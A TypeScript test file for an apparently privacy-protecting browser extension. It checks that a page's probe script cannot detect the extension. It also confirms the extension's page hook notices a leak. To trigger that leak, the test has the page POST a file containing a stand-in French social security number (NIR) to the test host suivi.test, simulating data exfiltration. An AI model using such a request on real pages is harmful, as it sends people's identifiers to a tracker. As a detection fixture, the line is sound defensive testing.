/** What a page can notice of the extension in its own world: nothing that it asks is answered otherwise. */
import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
import {probes} from '../make/probes.ts';
import {type Browser, openBrowser} from '../rig/browser.ts';
import type {Page} from '../rig/page.ts';
import type {Servers} from '../rig/servers.ts';
import {browsers, extensionOf, NIR, startSite} from './site.ts';

type Answers = Readonly<Record<string, string>>;

describe.each(browsers)('in %s', (name) => {
  let servers: Servers;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    servers = await startSite({
      '/vide': '<p>Rien</p>',
      '/sonde': `<body><script>window.found = (${probes})();</script>`,
    });
    browser = await openBrowser(name, {extensionDir: extensionOf(name), servers, language: 'fr'});
  });
  afterAll(async () => {
    await browser?.close();
    await servers?.close();
  });
  afterEach(() => page.close());

  it('answers a page as it does without the extension', async () => {
    const answersNow = async (): Promise<Answers> => {
      page = await browser.page('https://portail.test/sonde');
      // By the page's own script: a driver's has natives of its own in Firefox.
      return page.evaluate<Answers>('() => window.found');
    };
    await browser.withholdAccess();
    const without = await answersNow();
    await page.close();
    await browser.grantAccess();
    const answers = await answersNow();
    expect(answers).toEqual(without);
    // The hook was there.
    await page.evaluate(
      `() => fetch('https://suivi.test/c', {method: 'POST', mode: 'no-cors', body: (() => { const f = new FormData(); f.append('f', new File(['nir=${NIR}'], 'a.txt')); return f; })()}).then(() => 1)`,
    );
    await browser.reportWhen(page, 'what only the hook sees', ({findings}) =>
      findings.some(({evidence}) => evidence.some(({seenBy}) => seenBy === 'page-hook')),
    );
  });
});
